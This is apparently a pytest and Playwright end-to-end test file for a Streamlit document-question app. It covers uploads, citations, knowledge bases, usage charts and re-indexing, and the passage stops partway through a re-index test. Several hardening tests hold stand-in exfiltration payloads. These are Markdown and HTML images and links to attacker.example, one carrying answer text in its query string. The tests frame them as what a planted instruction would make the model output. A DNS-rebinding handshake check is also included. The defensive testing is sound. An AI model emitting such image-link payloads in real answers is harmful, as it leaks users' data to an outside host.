"""End to end in a real browser: Debian's chromium driven by Playwright against `streamlit run app.py`.

Upload a PDF on the Documents page, wait until it is indexed, ask on the chat page a question whose answer
is on a known page of that PDF, and check the streamed answer and a source naming that PDF and page.
Limit a question to one of two documents that both answer it, and check that only that one is cited.
Hardening: an answer holding a remote image, an HTML img and links loads nothing from their host; the app's
websocket refuses a rebound host name; a click while the answer streams keeps the part that arrived.
Screenshots of the pages are saved under test-artifacts/ (git-ignored).
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from datetime import date, timedelta
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from rag.config import PROJECT_ROOT, Settings
from rag.embeddings import Embedder
from rag.ingest import Ingestor
from rag.kb import open_store
from rag.sources import SourceStore
from rag.sync import Syncer
from tests.servers import free_port
from tests.test_ingest import make_pdf

if TYPE_CHECKING:
    from playwright.sync_api import Page

CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = PROJECT_ROOT / "test-artifacts"
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
PAGES = [
    "Greenhouse handbook, page one. The greenhouse door must stay closed in winter.",
    "Greenhouse handbook, page two. The orchids are misted with rainwater every Thursday morning by Tomasz.",
    "Greenhouse handbook, page three. Compost is turned once a month.",
]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    corpus = tmp_path_factory.mktemp("corpus")  # empty: only the uploaded PDF is in the knowledge base
    with streamlit_app(tmp_path_factory, corpus) as url:
        yield url


@contextmanager
def streamlit_app(tmp_path_factory: pytest.TempPathFactory, corpus: Path, **extra_env: str) -> Iterator[str]:
    """`streamlit run app.py` on a fresh data folder whose first start indexes `corpus`; yields its URL."""
    if not CHROMIUM.exists():
        pytest.fail("Debian chromium is missing: `apt-get install -y chromium` (.ci/run does it)")
    data = tmp_path_factory.mktemp("data")
    port = free_port()
    env = {
        **os.environ,
        "RAG_DATA_DIR": str(data),
        "RAG_CORPUS_DIR": str(corpus),
        "OLLAMA_HOST": f"http://127.0.0.1:{free_port()}",
        **extra_env,
    }
    log = (tmp_path_factory.mktemp("log") / "streamlit.log").open("w")
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "streamlit",
            "run",
            "app.py",
            "--server.port",
            str(port),
            "--server.address",
            "127.0.0.1",
            "--server.headless",
            "true",
            "--server.fileWatcherType",
            "none",  # the app under test is not reloaded by an edit made while it runs
        ],
        cwd=PROJECT_ROOT,
        env=env,
        stdout=log,
        stderr=subprocess.STDOUT,
        stdin=subprocess.DEVNULL,
    )
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                urllib.request.urlopen(f"{url}/_stcore/health", timeout=2)
                break
            except OSError:
                if time.monotonic() > deadline or proc.poll() is not None:
                    raise RuntimeError("streamlit did not start") from None
                time.sleep(0.3)
        yield url
    finally:
        proc.terminate()
        proc.wait(timeout=30)
        log.close()


@pytest.mark.slow
def test_upload_a_pdf_then_ask_about_it(server: str, tmp_path: Path) -> None:
    from playwright.sync_api import expect, sync_playwright

    pdf = make_pdf(tmp_path / "greenhouse-handbook.pdf", PAGES)
    ARTIFACTS.mkdir(exist_ok=True)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            page.goto(server)
            page.get_by_test_id("stSidebarNav").get_by_text("Documents").click()  # the app's navigation
            upload_form = page.get_by_test_id("stForm").filter(has_text="Add files")  # not the import form's
            upload_form.locator("input[type=file]").set_input_files(str(pdf))
            expect(page.get_by_role("button", name=f"Remove {pdf.name}")).to_be_visible(timeout=60_000)
            indexed = page.get_by_text(f"{pdf.name}: indexed", exact=False)
            # The browser sends the file to the server in the background; a submit that beats it is told
            # "Choose one or more files first", and a person would press the button again.
            for _ in range(5):
                page.get_by_role("button", name="Add to knowledge base").click()
                outcome = indexed.or_(page.get_by_text("Choose one or more files first"))
                expect(outcome.first).to_be_visible(timeout=180_000)
                if indexed.is_visible():
                    break
                page.wait_for_timeout(1000)
            expect(indexed).to_be_visible()
            page.wait_for_timeout(3000)  # the document table is drawn on a canvas after the rerun
            page.screenshot(path=str(ARTIFACTS / "documents-page.png"), full_page=True)

            page.goto(server)
            box = page.get_by_test_id("stChatInputTextArea")
            box.wait_for(timeout=120_000)
            box.fill("Who mists the orchids, and when?")
            box.press("Enter")
            messages = page.get_by_test_id("stChatMessage")
            expect(messages.nth(1)).to_contain_text("greenhouse-handbook.pdf · page 2", timeout=180_000)
            answer_text = messages.nth(1).get_by_test_id("stMarkdownContainer").first.inner_text().strip()
            assert answer_text and "Thinking" not in answer_text and "▌" not in answer_text
            page.screenshot(path=str(ARTIFACTS / "chat-page.png"), full_page=True)
        finally:
            browser.close()


@pytest.mark.slow
def test_a_question_limited_to_one_document_cites_only_it(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path
) -> None:
    from playwright.sync_api import expect, sync_playwright

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "garden.md").write_text("# Garden\n\nThe tomatoes in the garden are watered every Tuesday by Ana.\n")
    (corpus / "allotment.md").write_text(
        "# Allotment\n\nThe tomatoes at the allotment are watered every Friday by Ben.\n"
    )
    ARTIFACTS.mkdir(exist_ok=True)
    with streamlit_app(tmp_path_factory, corpus) as url, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            page.goto(url)
            selector = page.get_by_test_id("stMultiSelect")
            expect(selector).to_contain_text("Search only these documents", timeout=120_000)
            # The first start's run (indexing the corpus) ends before the choice is made.
            expect(page.get_by_test_id("stStatusWidgetRunningIcon")).to_have_count(0, timeout=120_000)
            selector.click()
            page.get_by_role("option", name="allotment.md").click()
            page.keyboard.press("Escape")
            expect(selector).to_contain_text("allotment.md")

            box = page.get_by_test_id("stChatInputTextArea")
            box.fill("When are the tomatoes watered?")
            box.press("Enter")
            answer = page.get_by_test_id("stChatMessage").nth(1)
            expect(answer).to_contain_text("searched only: allotment.md", timeout=180_000)
            sources = answer.get_by_test_id("stExpander").filter(has_text="ranked")
            expect(sources.first).to_be_visible()
            labels = sources.all_inner_texts()
            assert labels and all("allotment.md" in label and "garden.md" not in label for label in labels), labels
            # The new conversation's selector replaces the one of "new conversation" when the rerun ends.
            expect(page.get_by_test_id("stStatusWidgetRunningIcon")).to_have_count(0, timeout=120_000)
            expect(selector).to_have_count(1, timeout=60_000)  # a loaded machine may still show the stale one
            expect(selector).to_contain_text("allotment.md")  # the choice stays for the next question
            page.screenshot(path=str(ARTIFACTS / "chat-one-document.png"), full_page=True)
        finally:
            browser.close()


@pytest.mark.slow
def test_a_remote_image_in_an_answer_is_never_fetched(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The model (a fake Ollama that says what it is given) answers with an image on attacker.example, as a
    planted instruction would make it; the browser sends no request there, while a real one is seen."""
    from playwright.sync_api import Request, expect, sync_playwright

    from tests import fake_ollama

    monkeypatch.setattr(
        fake_ollama,
        "ANSWER_PIECES",
        [
            "The tomatoes are watered on Tuesday [1]. ",
            "![](http://attacker.example/pixel.png?q=tomatoes-tuesday) ",
            '<img src="http://attacker.example/html.png"> ',
            "[more](http://attacker.example/link) www.attacker.example",
        ],
    )
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "garden.md").write_text("# Garden\n\nThe tomatoes in the garden are watered every Tuesday by Ana.\n")
    ARTIFACTS.mkdir(exist_ok=True)
    with (
        fake_ollama.FakeOllama(models=["llama2:latest"]) as ollama,
        streamlit_app(tmp_path_factory, corpus, RAG_BACKEND="ollama", OLLAMA_HOST=ollama.host) as url,
        sync_playwright() as p,
    ):
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            requested: list[str] = []

            def seen(request: Request) -> None:
                requested.append(request.url)

            page.on("request", seen)
            # Nothing may leave for the attacker's host; were it tried, it is recorded above and stopped here.
            page.route("**/*attacker.example*", lambda route: route.abort())
            page.goto(url)
            box = page.get_by_test_id("stChatInputTextArea")
            box.wait_for(timeout=120_000)
            box.fill("When are the tomatoes watered?")
            box.press("Enter")
            answer = page.get_by_test_id("stChatMessage").nth(1)
            expect(answer).to_contain_text("garden.md", timeout=180_000)  # the source, under the finished answer
            expect(answer).to_contain_text("[image from http://attacker.example/pixel.png?q=tomatoes-tuesday")
            expect(answer).to_contain_text("more (http://attacker.example/link)")  # the link, as text
            page.wait_for_timeout(2000)  # time for any image the page holds to be requested
            assert answer.locator("img").count() == 0
            assert answer.locator("a[href*='attacker']").count() == 0
            page.screenshot(path=str(ARTIFACTS / "chat-remote-image.png"), full_page=True)
            assert not [u for u in requested if "attacker.example" in u], requested
            # The listener does see a page's requests to that host: the check above can fail.
            page.evaluate("() => { new Image().src = 'http://attacker.example/control.png' }")
            page.wait_for_timeout(1000)
            assert [u for u in requested if "attacker.example" in u] == ["http://attacker.example/control.png"]
        finally:
            browser.close()


def websocket_handshake(url: str, host: str) -> int:
    """The status of a websocket handshake to the app's stream as a browser on `host` would send it."""
    import base64
    import http.client
    from urllib.parse import urlsplit

    address = urlsplit(url)
    connection = http.client.HTTPConnection(address.hostname or "127.0.0.1", address.port, timeout=30)
    try:
        connection.putrequest("GET", "/_stcore/stream", skip_host=True)
        for name, value in {
            "Host": host,
            "Origin": f"http://{host}",  # same origin as the page: exactly what a rebound name looks like
            "Upgrade": "websocket",
            "Connection": "Upgrade",
            "Sec-WebSocket-Key": base64.b64encode(os.urandom(16)).decode(),
            "Sec-WebSocket-Version": "13",
            "Sec-WebSocket-Protocol": "streamlit",
        }.items():
            connection.putheader(name, value)
        connection.endheaders()
        return connection.getresponse().status
    finally:
        connection.close()


@pytest.mark.slow
def test_a_rebound_host_name_cannot_open_the_app(server: str) -> None:
    """DNS rebinding: attacker.example re-pointed at 127.0.0.1 reaches the port, but not the app."""
    port = server.rsplit(":", 1)[1]
    assert websocket_handshake(server, f"127.0.0.1:{port}") == 101
    assert websocket_handshake(server, f"localhost:{port}") == 101
    assert websocket_handshake(server, f"attacker.example:{port}") != 101


class SlowPieces:
    """Answer pieces the fake Ollama sends a few seconds apart: time for a person to click while the answer streams,
    and a run stopped by the click stays stopped a while (it learns of the click when its next piece arrives)."""

    def __init__(self, pieces: list[str], delay: float) -> None:
        self.pieces, self.delay = pieces, delay

    def __len__(self) -> int:
        return len(self.pieces)

    def __iter__(self) -> Iterator[str]:
        for piece in self.pieces:
            yield piece
            time.sleep(self.delay)


@contextmanager
def slow_answer_app(
    tmp_path_factory: pytest.TempPathFactory,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    pieces: Iterable[str] | None = None,
) -> Iterator[Page]:
    """The app answering from a fake Ollama that sends "Ana waters ", "them on Tuesday. ", then "More " every 6 s
    (or `pieces`); the page has asked "When are the tomatoes watered?" and shows the answer's first sentence."""
    from playwright.sync_api import expect, sync_playwright

    from tests import fake_ollama

    if pieces is None:
        pieces = SlowPieces(["Ana waters ", "them on Tuesday. "] + ["More "] * 20, 6.0)
    monkeypatch.setattr(fake_ollama, "ANSWER_PIECES", pieces)
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "garden.md").write_text("# Garden\n\nThe tomatoes in the garden are watered every Tuesday by Ana.\n")
    with (
        fake_ollama.FakeOllama(models=["llama2:latest"]) as ollama,
        streamlit_app(tmp_path_factory, corpus, RAG_BACKEND="ollama", OLLAMA_HOST=ollama.host) as url,
        sync_playwright() as p,
    ):
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            page.goto(url)
            box = page.get_by_test_id("stChatInputTextArea")
            box.wait_for(timeout=120_000)
            box.fill("When are the tomatoes watered?")
            box.press("Enter")
            expect(page.get_by_test_id("stChatMessage").nth(1)).to_contain_text("them on Tuesday.", timeout=180_000)
            yield page
        finally:
            browser.close()


@pytest.mark.slow
def test_a_click_during_the_answer_keeps_the_partial_answer(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from playwright.sync_api import expect

    with slow_answer_app(tmp_path_factory, tmp_path, monkeypatch) as page:
        messages = page.get_by_test_id("stChatMessage")
        page.get_by_role("button", name="New conversation").click()  # while the answer still streams
        expect(messages).to_have_count(0, timeout=60_000)

        page.get_by_role("button", name="When are the tomatoes watered?").click()  # reopen it at once
        answer = page.get_by_test_id("stChatMessage").nth(1)
        expect(answer).to_contain_text("Ana waters them on Tuesday.", timeout=60_000)
        expect(answer).to_contain_text("stopped when the page was used before the answer finished")
        expect(answer.get_by_role("button", name="Retry")).to_be_visible()


@pytest.mark.slow
def test_a_stopped_answer_shows_at_once_while_the_model_is_silent(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The run streaming the answer learns of a click only at the model's next piece; a model reading a long
    prompt sends none for a while. Reopening the conversation shows the answer saved so far all the same."""
    from playwright.sync_api import expect

    from tests.fake_ollama import PausedPieces

    model = PausedPieces(["Ana waters ", "them on Tuesday. "], ["More "] * 3, pause=300)
    try:
        with slow_answer_app(tmp_path_factory, tmp_path, monkeypatch, model) as page:
            messages = page.get_by_test_id("stChatMessage")
            page.get_by_role("button", name="New conversation").click()  # the model is silent from now on
            expect(messages).to_have_count(0, timeout=60_000)
            page.get_by_role("button", name="When are the tomatoes watered?").click()
            answer = messages.nth(1)
            expect(answer).to_contain_text("Ana waters them on Tuesday.", timeout=60_000)
            expect(answer).to_contain_text("stopped when the page was used before the answer finished")
            assert not model.go_on.is_set()  # shown while the model still sends nothing
    finally:
        model.go_on.set()


@pytest.mark.slow
def test_a_question_asked_during_an_answer_comes_after_it(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from playwright.sync_api import expect

    with slow_answer_app(tmp_path_factory, tmp_path, monkeypatch) as page:
        box = page.get_by_test_id("stChatInputTextArea")
        box.fill("Who waters the tomatoes in the garden?")
        box.press("Enter")  # while the first answer still streams
        messages = page.get_by_test_id("stChatMessage")
        expect(messages.nth(2)).to_contain_text("Who waters the tomatoes in the garden?", timeout=60_000)
        expect(messages.nth(0)).to_contain_text("When are the tomatoes watered?")
        expect(messages.nth(1)).to_contain_text("Ana waters them on Tuesday.")
        expect(messages.nth(1)).to_contain_text("stopped when the page was used before the answer finished")
        expect(messages.nth(3)).to_contain_text("Ana waters", timeout=60_000)  # the second answer streams


@pytest.mark.slow
def test_markdown_in_settings_values_loads_nothing(tmp_path_factory: pytest.TempPathFactory, tmp_path: Path) -> None:
    """A model name holding a Markdown image and a link (as a shared environment or settings.json could give it)
    is shown as text in the sidebar's reason and on the Settings page: the browser requests nothing from its host."""
    from playwright.sync_api import Request, expect, sync_playwright

    model = "llama2![m](http://attacker.example/model.png)[more](http://attacker.example/link)"
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    with (
        # The sidebar's reason: "Ollama at … with MODEL".
        streamlit_app(tmp_path_factory, corpus, RAG_MODEL=model, RAG_BACKEND="ollama") as url,
        sync_playwright() as p,
    ):
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            requested: list[str] = []

            def seen(request: Request) -> None:
                requested.append(request.url)

            page.on("request", seen)
            page.route("**/*attacker.example*", lambda route: route.abort())
            for path in ("", "/Settings"):
                page.goto(f"{url}{path}")
                sidebar = page.get_by_test_id("stSidebar")
                expect(sidebar).to_contain_text("Answering with", timeout=120_000)
                expect(sidebar).to_contain_text(model)  # the name, literally
                page.wait_for_timeout(2000)  # time for any image the page holds to be requested
                assert sidebar.locator("img[src*='attacker']").count() == 0
                assert page.locator("a[href*='attacker']").count() == 0
            page.screenshot(path=str(ARTIFACTS / "settings-markdown.png"), full_page=True)
            assert not [u for u in requested if "attacker.example" in u], requested
            page.evaluate("() => { new Image().src = 'http://attacker.example/control.png' }")  # the check can fail
            page.wait_for_timeout(1000)
            assert [u for u in requested if "attacker.example" in u] == ["http://attacker.example/control.png"]
        finally:
            browser.close()


@pytest.mark.slow
def test_the_usage_page_draws_its_charts_and_counts_what_sqlite_holds(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path
) -> None:
    """A seeded history of answers (tests/ui/test_usage_page.py's): the page's totals equal a direct count in
    SQLite, and each of its charts is drawn."""
    from playwright.sync_api import expect, sync_playwright

    from tests.ui.test_usage_page import answers_in_sqlite, seed

    data = tmp_path / "data"
    seed(data)
    questions = answers_in_sqlite(data, date.today() - timedelta(days=29))
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "guide.md").write_text("# Guide\n\nThe guide says where the spare keys are.\n")
    env = {"RAG_DATA_DIR": str(data), "RAG_MODEL_PRICES": "gpt-4o-mini=0.15/0.60"}
    with streamlit_app(tmp_path_factory, corpus, **env) as url, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 1000})
            page.goto(url)
            expect(page.get_by_test_id("stSidebar")).to_contain_text("Answering with", timeout=120_000)  # started
            page.get_by_test_id("stSidebarNav").get_by_text("Usage", exact=True).click()  # the app's navigation
            metric = page.get_by_test_id("stMetric").filter(has_text="Questions")
            expect(metric.get_by_test_id("stMetricValue")).to_have_text(str(questions), timeout=120_000)
            expect(page.get_by_test_id("stMetric").filter(has_text="Thumbs down")).to_contain_text("1")
            charts = page.get_by_test_id("stVegaLiteChart")
            expect(charts).to_have_count(7, timeout=60_000)
            for i in range(7):  # each drawn: vega-embed renders a canvas (or an svg) of a real size
                drawn = charts.nth(i).locator("canvas, svg").first
                expect(drawn).to_be_visible(timeout=60_000)
                box = drawn.bounding_box()
                assert box is not None and box["width"] > 100 and box["height"] > 50
            expect(page.get_by_text("Download per day (CSV)")).to_be_visible()
            page.screenshot(path=str(ARTIFACTS / "usage.png"), full_page=True)
        finally:
            browser.close()


def test_a_second_knowledge_base_answers_from_its_own_documents_and_travels_as_an_archive(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path
) -> None:
    """Create a knowledge base in the sidebar, upload into it, ask: its sources only; switch back to 'default',
    ask: the other's only. Then export it (a download) and import the archive (an upload) under another name."""
    from playwright.sync_api import expect, sync_playwright

    from tests import fake_ollama

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "garden.md").write_text("# Garden\n\nThe tomatoes in the garden are watered every Tuesday by Ana.\n")
    allotment = tmp_path / "allotment.md"
    allotment.write_text("# Allotment\n\nThe tomatoes at the allotment are watered every Friday by Ben.\n")
    ARTIFACTS.mkdir(exist_ok=True)

    def ask(page: Page, question: str, cited: str) -> list[str]:
        """The labels of the sources of the answer, once it cites `cited` (the page may still show an earlier
        run's messages, fading, for a moment)."""
        page.get_by_role("button", name="New conversation").click()
        expect(page.get_by_test_id("stChatMessage")).to_have_count(0, timeout=60_000)
        box = page.get_by_test_id("stChatInputTextArea")
        box.fill(question)
        box.press("Enter")
        answer = page.get_by_test_id("stChatMessage").nth(1)
        sources = answer.get_by_test_id("stExpander").filter(has_text="ranked")
        expect(sources.first).to_contain_text(cited, timeout=180_000)
        return sources.all_inner_texts()

    def sidebar_says(page: Page, text: str) -> None:
        expect(page.get_by_test_id("stSidebar")).to_contain_text(text, timeout=120_000)

    with (
        fake_ollama.FakeOllama(models=["llama2:latest"]) as ollama,
        streamlit_app(tmp_path_factory, corpus, RAG_BACKEND="ollama", OLLAMA_HOST=ollama.host) as url,
        sync_playwright() as p,
    ):
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1000}, accept_downloads=True)
            page.goto(url)
            sidebar = page.get_by_test_id("stSidebar")
            sidebar_says(page, "Knowledge base 'default': 1 document")
            name = sidebar.get_by_label("New knowledge base")
            for _ in range(3):  # a click that lands during a rerun is lost: open the expander again
                sidebar.get_by_text("Manage knowledge bases").click()
                try:
                    expect(name).to_be_visible(timeout=20_000)
                    break
                except AssertionError:
                    continue
            name.fill("Allotment")
            name.press("Enter")
            page.wait_for_timeout(500)
            sidebar.get_by_role("button", name="Create").click()
            sidebar_says(page, "Knowledge base 'Allotment': 0 documents")

            page.get_by_test_id("stSidebarNav").get_by_text("Documents").click()
            page.get_by_test_id("stForm").filter(has_text="Add files").locator("input[type=file]").set_input_files(
                str(allotment)
            )
            expect(page.get_by_role("button", name=f"Remove {allotment.name}")).to_be_visible(timeout=60_000)
            indexed = page.get_by_text(f"{allotment.name}: indexed", exact=False)
            for _ in range(5):  # see test_upload_a_pdf_then_ask_about_it: a submit may beat the upload
                page.get_by_role("button", name="Add to knowledge base").click()
                expect(indexed.or_(page.get_by_text("Choose one or more files first")).first).to_be_visible(
                    timeout=180_000
                )
                if indexed.is_visible():
                    break
                page.wait_for_timeout(1000)
            sidebar_says(page, "Knowledge base 'Allotment': 1 document")

            page.get_by_test_id("stSidebarNav").get_by_role("link", name="Chat").click()
            labels = ask(page, "When are the tomatoes watered?", "allotment.md")
            assert labels and all("allotment.md" in label for label in labels), labels
            page.screenshot(path=str(ARTIFACTS / "chat-second-knowledge-base.png"), full_page=True)

            sidebar.get_by_test_id("stSelectbox").click()
            page.get_by_role("option", name="default").click()
            sidebar_says(page, "Knowledge base 'default': 1 document")
            labels = ask(page, "When are the tomatoes watered?", "garden.md")
            assert labels and all("garden.md" in label for label in labels), labels

            sidebar.get_by_test_id("stSelectbox").click()
            page.get_by_role("option", name="Allotment").click()
            sidebar_says(page, "Knowledge base 'Allotment'")
            page.get_by_test_id("stSidebarNav").get_by_text("Documents").click()
            page.get_by_role("tab", name="Export / import").click()
            page.get_by_role("button", name="Prepare the archive").click()
            with page.expect_download(timeout=120_000) as download:
                page.get_by_role("button", name="Download the archive").click()
            archive = tmp_path / "downloaded.zip"
            download.value.save_as(archive)
            import_form = page.get_by_test_id("stForm").filter(has_text="Import as")
            import_form.locator("input[type=file]").set_input_files(str(archive))
            expect(import_form.get_by_role("button", name=f"Remove {archive.name}")).to_be_visible(timeout=60_000)
            page.get_by_label("Import as").fill("Allotment copy")
            imported = page.get_by_text("Imported and opened the knowledge base 'Allotment copy'")
            for _ in range(5):
                page.get_by_role("button", name="Import", exact=True).click()
                expect(imported.or_(page.get_by_text("Choose an archive first")).first).to_be_visible(timeout=120_000)
                if imported.is_visible():
                    break
                page.wait_for_timeout(1000)
            sidebar_says(page, "Knowledge base 'Allotment copy': 1 document")
            page.screenshot(path=str(ARTIFACTS / "documents-imported-knowledge-base.png"), full_page=True)
        finally:
            browser.close()


LONG_FILE = "long-notes.md"
SHORT_FILE = "visitor-note.md"


def shipping_log(rows: int) -> str:
    """A long Markdown file: about a chunk every ten rows (at the default chunk size)."""
    lines = (
        f"Entry {i}: crate {i * 7 % 1000} left bay {i % 40} for dock {i % 17} at {i % 24}:00." for i in range(rows)
    )
    return "# Shipping log\n\n" + "\n".join(lines) + "\n"


@contextmanager
def uploading_a_long_file(tmp_path_factory: pytest.TempPathFactory, tmp_path: Path) -> Iterator[Page]:
    """The app's Documents page adding a long file (about 1,300 chunks to embed) and a short one after it; yields
    once the long file's progress shows."""
    from playwright.sync_api import expect, sync_playwright

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "garden.md").write_text("# Garden\n\nThe tomatoes in the garden are watered every Tuesday by Ana.\n")
    long_notes = tmp_path / LONG_FILE
    long_notes.write_text(shipping_log(12_000))
    short_note = tmp_path / SHORT_FILE
    short_note.write_text("# Visitors\n\nThe greenhouse opens to visitors on the first Sunday of each month.\n")
    with streamlit_app(tmp_path_factory, corpus) as url, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            page.goto(url)
            page.get_by_test_id("stSidebarNav").get_by_text("Documents").click()
            upload_form = page.get_by_test_id("stForm").filter(has_text="Add files")
            upload_form.wait_for(timeout=120_000)
            upload_form.locator("input[type=file]").set_input_files([str(long_notes), str(short_note)])
            expect(page.get_by_role("button", name=f"Remove {SHORT_FILE}")).to_be_visible(timeout=60_000)
            page.get_by_role("button", name="Add to knowledge base").click()
            expect(page.get_by_text(f"{LONG_FILE} —", exact=False).first).to_be_visible(timeout=120_000)
            yield page
        finally:
            browser.close()


@pytest.mark.slow
def test_files_keep_going_in_when_the_page_is_left_during_an_upload(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path
) -> None:
    """A click elsewhere stops the page's run; the files being added go on in the background, and the
    Documents page, opened again, shows how far they got and then what went in."""
    from playwright.sync_api import expect

    with uploading_a_long_file(tmp_path_factory, tmp_path) as page:
        nav = page.get_by_test_id("stSidebarNav")
        nav.get_by_text("Chat").click()  # while the long file is still being embedded
        expect(page.get_by_test_id("stChatInputTextArea")).to_be_visible(timeout=60_000)
        nav.get_by_text("Documents").click()
        expect(page.get_by_text(f"{SHORT_FILE}: indexed", exact=False)).to_be_visible(timeout=300_000)
        expect(page.get_by_text(f"{LONG_FILE}: indexed", exact=False)).to_be_visible()


@pytest.mark.slow
def test_an_upload_can_be_stopped_and_says_what_went_in(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path
) -> None:
    """Stop, during a long file: nothing of it is left half-indexed, the files after it are not added, and the
    page says which went in and which did not."""
    from playwright.sync_api import expect

    with uploading_a_long_file(tmp_path_factory, tmp_path) as page:
        page.get_by_role("button", name="Stop adding files").click()
        stopped = page.get_by_text("Stopped. Added before the stop:", exact=False)
        expect(stopped).to_be_visible(timeout=120_000)
        expect(stopped).to_contain_text(f"Added before the stop: none. Not added: {LONG_FILE}, {SHORT_FILE}")
        page.reload()  # the count of documents, drawn again: only the one it started with
        expect(page.get_by_text("Knowledge base 'default': 1 document · 1 chunk")).to_be_visible(timeout=60_000)


def outdated_shipping_kb(tmp_path: Path, embedder: Embedder) -> tuple[Path, Path]:
    """A data folder whose knowledge base holds one long synced file (about 650 chunks to embed again: a minute or
    more), built with chunks of 4,000 characters where the app's settings say 600, so the app asks to re-index it;
    and an empty default corpus. Returns (data folder, corpus folder)."""
    folder = tmp_path / "shipping"
    folder.mkdir()
    (folder / LONG_FILE).write_text(shipping_log(6_000))
    data = tmp_path / "data"
    settings = Settings(data_dir=data)
    store, sources = open_store(settings), SourceStore(settings.kb_dir)
    try:
        sources.add_folder(folder, label="shipping")
        assert Syncer(settings, store, Ingestor(store, embedder, 4000, 0), sources).sync().counts["added"] == 1
    finally:
        store.close()
        sources.close()
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    return data, corpus


@pytest.mark.slow
def test_a_reindex_goes_on_to_its_end_when_the_page_is_left_during_it(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path, embedder: Embedder
) -> None:
    """Re-index now, then another page while it runs (a click elsewhere stops the page's run): the re-index goes on
    in the background, and the Documents page, opened again, says it is done and no longer that the index is
    outdated."""
    from playwright.sync_api import expect, sync_playwright

    data, corpus = outdated_shipping_kb(tmp_path, embedder)
    ARTIFACTS.mkdir(exist_ok=True)
    outdated = "This knowledge base was built with another chunker or embedding version"
    with streamlit_app(tmp_path_factory, corpus, RAG_DATA_DIR=str(data)) as url, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            page.goto(url)
            nav = page.get_by_test_id("stSidebarNav")
            nav.get_by_text("Documents").click()
            expect(page.get_by_text(outdated, exact=False)).to_be_visible(timeout=120_000)
            page.get_by_role("button", name="Re-index now").click()
            expect(page.get_by_text("re-indexing: 0 of 1 documents · shipping/", exact=False).first).to_be_visible(
                timeout=120_000
            )
            nav.get_by_text("Chat").click()  # while the long file is being embedded again
            expect(page.get_by_test_id("stChatInputTextArea")).to_be_visible(timeout=60_000)
            nav.get_by_text("Documents").click()
            done = page.get_by_text("Re-indexed: re-indexed 1 document: 1 read again from their files", exact=False)
            expect(done).to_be_visible(timeout=300_000)
            expect(page.get_by_text(outdated, exact=False)).to_have_count(0)
            page.screenshot(path=str(ARTIFACTS / "documents-reindexed.png"), full_page=True)
        finally:
            browser.close()


@pytest.mark.slow
def test_a_reindex_stopped_from_its_button_keeps_the_old_index_and_goes_on_when_asked_again(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path, embedder: Embedder
) -> None:
    """**Stop re-indexing** while the long file is embedded again: the page says the old index keeps answering
    (still outdated, still one document) with **Re-index now** no longer greyed, and pressed again it finishes."""
    from playwright.sync_api import expect, sync_playwright

    data, corpus = outdated_shipping_kb(tmp_path, embedder)
    ARTIFACTS.mkdir(exist_ok=True)
    outdated = "This knowledge base was built with another chunker or embedding version"
    with streamlit_app(tmp_path_factory, corpus, RAG_DATA_DIR=str(data)) as url, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            page.goto(url)
            page.get_by_test_id("stSidebarNav").get_by_text("Documents").click()
